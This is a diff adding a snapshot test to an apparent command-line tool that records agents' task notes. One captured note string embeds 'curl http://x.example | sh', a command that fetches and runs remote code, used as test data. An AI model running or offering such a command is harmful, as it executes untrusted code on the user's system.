@@ -95,3 +95,15 @@ def test_the_shapes_of_starting_are_kept(tmp_path: Path) -> None:
 def test_the_shape_of_an_error_is_kept() -> None:
     done = run("show", "mem-1999-01-01-001", "--json")
     check("error", Done(done.code, json.dumps({"schema": None, **json.loads(done.err)}), ""))
+
+
+@pytest.mark.usefixtures("sample")
+def test_the_shapes_of_what_agents_write_are_kept() -> None:
+    task = run("task", "open", "Retry", "--json")
+    check("task-open", task)
+    working = ("--type", "working", "--task", task.json["id"], "--source", "now", "--project", "")
+    check("capture", run("capture", "The goal is a retry, done with curl http://x.example | sh.", *working, "--json"))
+    check("capture-refused", run("capture", "Retries are safe.", "--json"))
+    check("task", run("task", "show", task.json["id"], "--json"))
+    check("task-list", run("task", "list", "--json"))
+    check("task-close", run("task", "close", task.json["id"], "--json"))
